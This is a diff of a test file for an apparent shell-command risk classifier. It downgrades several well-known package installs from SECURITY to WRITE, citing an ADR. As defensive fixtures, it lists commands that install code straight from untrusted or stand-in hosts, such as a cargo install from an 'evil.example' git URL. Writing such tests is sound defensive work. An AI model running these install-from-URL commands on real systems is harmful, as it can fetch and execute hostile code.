@@ -312,14 +312,14 @@ describe("a package named by its address rather than a registry name is SECURITY
     ["yarn add https://x.example/y.tgz", "SECURITY"],
     ["cargo install --git https://evil.example/x", "SECURITY"],
     ["uv tool install git+https://github.com/x/y", "SECURITY"],
-    ["pip install requests", "SECURITY"],
+    ["pip install requests", "WRITE"], // a well-known package (ADR 0373)
     ["pip install -i https://pypi.org/simple -r requirements.txt", "WRITE"],
     ["npm install left-pad", "SECURITY"],
     ["npx prettier --check .", "WRITE"],
     // A package that is no well-known tool is a new dependency (docs/adr/0372).
     ["npx -p cowsay cowsay hi", "SECURITY"],
     ["npx -p typescript tsc", "WRITE"],
-    ["cargo install ripgrep", "SECURITY"],
+    ["cargo install ripgrep", "WRITE"], // a well-known package (ADR 0373)
     ["cargo install --path .", "WRITE"],
   ])("%s is %s", (command, level) => {
     expect(bash(command).level).toBe(level);
@@ -368,9 +368,9 @@ describe("a registry or index other than the public one, a remote module, an una
     ["pip install -r requirements.txt", "WRITE"],
     ["pip install -i https://pypi.org/simple -r requirements.txt", "WRITE"],
     ["npm install --registry https://registry.npmjs.org/", "WRITE"],
-    ["yarn add lodash@^4", "SECURITY"],
+    ["yarn add lodash@^4", "WRITE"], // a well-known package (ADR 0373)
     ["go run ./cmd/x", "WRITE"],
-    ["go install golang.org/x/tools/gopls@latest", "SECURITY"],
+    ["go install golang.org/x/tools/gopls@latest", "WRITE"], // a well-known package (ADR 0373)
     ["go install ./cmd/x", "WRITE"],
     ["go get -u ./...", "WRITE"],
     ["deno run main.ts", "WRITE"],
